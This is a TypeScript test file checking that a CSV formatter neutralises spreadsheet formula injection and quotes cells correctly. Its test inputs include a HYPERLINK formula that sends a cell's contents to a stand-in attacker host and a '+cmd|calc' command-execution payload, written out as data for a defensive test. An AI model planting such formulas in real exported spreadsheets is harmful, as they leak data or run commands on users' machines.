import { expect, test } from 'vitest'
import { formatCsvCell, formatCsvLine } from './csv.ts'

test.each([
  '=HYPERLINK("https://evil.example?"&A1,"open")',
  '=1+1',
  '+cmd|calc',
  '-2+3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
])('escapes the formula %j as text', (attack) => {
  const cell = formatCsvCell(attack)
  expect(cell.replace(/^"/, '').startsWith("'")).toBe(true)
})

test('quotes separators, quotation marks and line breaks', () => {
  expect(formatCsvLine(['a,b', 'say "hi"', 'two\r\nlines', 'plain'])).toBe(
    '"a,b","say ""hi""","two\r\nlines",plain\r\n',
  )
  expect(formatCsvCell('x","=1+1')).toBe('"x"",""=1+1"')
})

test('does not escape numbers, including negative ones', () => {
  expect(formatCsvLine([-1.25, 0, 12.3456])).toBe('-1.25,0,12.3456\r\n')
})

test('distinguishes an original apostrophe from an added one', () => {
  expect([formatCsvCell("'=1"), formatCsvCell('=1')]).toEqual(["''=1", "'=1"])
})
